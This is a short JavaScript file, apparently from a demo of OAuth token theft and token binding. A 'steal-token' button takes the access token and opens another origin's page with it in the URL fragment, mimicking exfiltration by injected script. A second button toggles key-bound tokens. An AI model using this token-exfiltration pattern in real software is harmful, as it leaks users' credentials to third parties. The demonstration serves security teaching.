// The buttons that take the token to another origin's page, and that bind tokens to this one's key.

import { getToken } from "../django_tmibff/tmibff.js";

const steal = document.getElementById("steal-token");
const bind = document.getElementById("bind-tokens");
const state = document.getElementById("theft-state");

async function takeAway() {
  // What script in this page could do. It is in the address's fragment: no server sees it.
  const { access_token } = await getToken();
  open(`${steal.dataset.thief}#${access_token}`, "_blank", "noopener");
}

async function toggle() {
  bind.disabled = true;
  const form = new URLSearchParams({
    required: "required" in bind.dataset ? "no" : "yes",
    csrfmiddlewaretoken: document.querySelector("[name=csrfmiddlewaretoken]").value,
  });
  const answer = await fetch(bind.dataset.url, { method: "POST", body: form }).catch(() => null);
  // The tokens of before are in this page's memory.
  if (answer?.ok) return location.reload();
  bind.disabled = false;
  return fail();
}

function fail() {
  state.textContent = "That did not work: is somebody signed in?";
}

steal?.addEventListener("click", () => takeAway().catch(fail));
bind?.addEventListener("click", toggle);
